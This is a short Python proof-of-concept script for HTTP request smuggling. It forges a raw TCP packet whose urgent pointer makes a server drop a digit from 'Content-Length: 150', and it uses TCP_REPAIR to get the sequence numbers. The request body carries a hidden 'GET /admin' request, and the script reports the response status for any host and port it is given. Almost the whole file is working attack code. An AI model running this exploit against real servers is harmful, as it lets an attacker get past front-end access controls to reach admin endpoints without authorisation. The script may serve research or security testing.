# SPDX-License-Identifier: Apache-2.0
"""Lets an urgent pointer take a digit out of a Content-Length.

Usage: urgent.py HOST PORT

A forged packet without payload announces that the 0 of "Content-Length: 150" will be urgent; then the request comes
by ordinary means. A server that reads 15 takes the rest of the body for a request: GET /admin.
"""
import socket
import struct
import sys
import time

TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
REPAIR_ON, REPAIR_OFF_NO_PROBE = 1, -1
RECV_QUEUE, SEND_QUEUE = 1, 2
ACK, URG = 0x10, 0x20

HEAD = b"POST /api/x HTTP/1.1\r\nHost: b\r\nContent-Length: 150\r\n\r\n"
SMUGGLED = b"GET /admin HTTP/1.1\r\nHost: b\r\nConnection: close\r\n\r\n"
BODY = (b"A" * 15 + SMUGGLED).ljust(150, b"A")


def position(sock, queue):
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, REPAIR_ON)
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, queue)
    seq = sock.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xFFFFFFFF
    sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, REPAIR_OFF_NO_PROBE)
    return seq


def checksum(data):
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def announce(sock, pointer):
    (src, sport), (dst, dport) = sock.getsockname(), sock.getpeername()
    fields = [sport, dport, position(sock, SEND_QUEUE), position(sock, RECV_QUEUE), 5 << 4, ACK | URG, 512, 0, pointer]
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack(">BBH", 0, socket.IPPROTO_TCP, 20)
    fields[7] = checksum(pseudo + struct.pack(">HHIIBBHHH", *fields))
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    raw.sendto(struct.pack(">HHIIBBHHH", *fields), (dst, 0))


def main():
    sock = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3)
    time.sleep(0.1)
    announce(sock, HEAD.index(b"150") + 3)  # the pointer names the byte behind the urgent one
    time.sleep(0.1)
    sock.sendall(HEAD + BODY)
    try:
        print(sock.recv(65536).split()[1].decode())
    except (OSError, IndexError):
        print("none")


main()
